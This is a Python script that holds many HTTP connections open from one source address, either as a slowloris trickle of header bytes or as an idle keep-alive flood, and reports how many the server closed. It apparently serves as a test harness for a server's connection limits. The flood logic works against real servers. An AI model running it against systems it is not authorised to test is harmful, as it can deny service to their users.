#!/usr/bin/python3
"""http_flood.py: holds many HTTP connections open from one source address,
as a slowloris or an idle keep-alive flood, and reports how the server dealt
with them.

  http_flood.py ADDR:PORT --source IP --count N --mode slow|idle
                [--expect-closed K] [--ready FILE] [--duration S]

slow: each connection sends a request line, then one more header byte every
0.3 s, never ending the header. idle: each connection sends one complete GET,
reads its answer, then stays silent.
Writes "ready" into FILE once the server closed K of them (or after 10 s),
then runs until every connection is closed or S seconds (default 30)
passed. Prints "closed=C open=O". (Why they were closed, the server's own
counters say: a refused one may see a reset rather than its 503.)
"""
import argparse
import selectors
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("addr")
    ap.add_argument("--source", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--mode", choices=["slow", "idle"], required=True)
    ap.add_argument("--expect-closed", type=int, default=0)
    ap.add_argument("--ready")
    ap.add_argument("--duration", type=float, default=30.0)
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    sel = selectors.DefaultSelector()
    got = {}
    for _ in range(a.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((a.source, 0))
        s.connect((host, int(port)))
        s.setblocking(False)
        if a.mode == "slow":
            s.send(b"GET /slow HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        else:
            s.send(b"GET /idle?cc=max-age%3D300 HTTP/1.1\r\nHost: x\r\n\r\n")
        got[s] = b""
        sel.register(s, selectors.EVENT_READ)
    start = time.monotonic()
    last_trickle = start
    closed = 0
    ready_written = False
    while got and time.monotonic() - start < a.duration:
        now = time.monotonic()
        if not ready_written and (closed >= a.expect_closed or now - start > 10):
            if a.ready:
                with open(a.ready, "w") as f:
                    f.write("ready\n")
            ready_written = True
        if a.mode == "slow" and now - last_trickle >= 0.3:  # the attack's own pace
            last_trickle = now
            for s in list(got):
                if got[s]:
                    continue  # answered (a refusal): sending more would only reset it
                try:
                    s.send(b"a")
                except OSError:
                    pass
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:  # a reset: closed too
                data = b""
            if data:
                got[s] += data
                continue
            closed += 1
            sel.unregister(s)
            s.close()
            del got[s]
    if a.ready and not ready_written:
        with open(a.ready, "w") as f:
            f.write("ready\n")
    print(f"closed={closed} open={len(got)}")


if __name__ == "__main__":
    main()
